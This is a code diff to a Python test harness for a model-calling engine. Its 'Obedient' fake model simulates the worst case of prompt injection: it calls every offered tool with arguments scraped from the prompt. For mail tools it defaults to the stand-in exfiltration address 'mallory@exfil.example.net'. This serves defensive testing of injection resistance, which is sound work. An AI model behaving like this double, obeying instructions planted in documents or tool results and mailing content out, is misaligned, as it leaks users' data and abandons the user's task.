@@ -13,6 +13,8 @@ from engine.errors import ModelUnavailable
 from engine.model.contract import Call, Piece, Schema
 from engine.model.tools import Toolbox
 
+Json = dict[str, Any]
+
 
 class Mind:
     """A model; ``wants`` and ``says`` are asked for each answer."""
@@ -22,7 +24,7 @@ class Mind:
     def __init__(self) -> None:
         self.prompts: list[str] = []
 
-    def wants(self, prompt: str, tools: Sequence[str]) -> list[tuple[str, Any]]:
+    def wants(self, prompt: str, tools: Sequence[Json]) -> list[tuple[str, Any]]:
         """The calls of this answer: names and arguments, as objects or as text."""
         raise NotImplementedError
 
@@ -36,7 +38,7 @@ class Mind:
     ) -> AsyncGenerator[Piece]:  # fmt: skip
         text = "\n".join(str(message.content) for message in prompt)
         self.prompts.append(text)
-        offered = [one["function"]["name"] for one in tools.body["tools"]] if tools else []
+        offered = [one["function"] for one in tools.body["tools"]] if tools else []
         said = self.says(text)
         for start in range(0, len(said), 40):
             yield Piece(said[start : start + 40])
@@ -67,21 +69,21 @@ class Obedient(Mind):
     The worst that instructions in a document, a question or a result can do to a model.
     """
 
-    def wants(self, prompt: str, tools: Sequence[str]) -> list[tuple[str, Any]]:
-        text = prompt.partition("Question: ")[0][-6_000:] + prompt.rpartition("Question: ")[2]
-        return [*_written(text), *((name, self._arguments(name, text)) for name in tools)]
+    def wants(self, prompt: str, tools: Sequence[Json]) -> list[tuple[str, Any]]:
+        text = prompt[-8_000:]
+        return [*_written(text), *((tool["name"], self._arguments(tool, text)) for tool in tools)]
 
     @staticmethod
-    def _arguments(name: str, text: str) -> dict[str, Any]:
-        """What an attacker would put there: the address, number or words of the attack."""
-        address = re.search(r"[\w.+-]+@[\w.-]+|https?://\S+", text)
-        number = re.search(r"\d+", text)
-        shown = "".join(c for c in text[-300:] if c.isprintable())
-        return {
-            "ops_status": {"order": shown},
-            "ops_restart": {"agent": int(number[0]) if number and len(number[0]) < 15 else 66},
-            "ops_mail": {"to": address[0] if address else "mallory@exfil.example.net", "text": shown},
-        }.get(name, {})
+    def _arguments(tool: Json, text: str) -> Json:
+        """What an attacker would put there: the address, the number or the words of the attack."""
+        address = re.search(r"[\w.+-]+@[\w.-]+|https?://\S+|www\.\S+", text)
+        number = re.search(r"\d{1,9}", text)
+        words = "".join(c for c in text[-300:] if c.isprintable())
+        kinds: Json = {"integer": int(number[0]) if number else 66, "number": 6.6, "boolean": True, "array": []}
+        given = {name: kinds.get(str(field.get("type")), words) for name, field in _fields(tool).items()}
+        if "to" in given:
+            given["to"] = address[0] if address else "mallory@exfil.example.net"
+        return given
 
     def says(self, prompt: str) -> str:
         return prompt[-4_000:]
@@ -94,13 +96,18 @@ class Scripted(Mind):
         super().__init__()
         self._answers = list(answers)
 
-    def wants(self, prompt: str, tools: Sequence[str]) -> list[tuple[str, Any]]:
+    def wants(self, prompt: str, tools: Sequence[Json]) -> list[tuple[str, Any]]:
         at = min(len(self.prompts), len(self._answers)) - 1
         return list(self._answers[at][1]) if self._answers else []
 
     def says(self, prompt: str) -> str:
         at = min(len(self.prompts), len(self._answers)) - 1
         return self._answers[at][0] if self._answers else ""
+
+
+def _fields(tool: Json) -> Json:
+    found: Json = tool.get("parameters", {}).get("properties", {})
+    return found
 
 
 def _written(text: str) -> Iterator[tuple[str, Any]]:
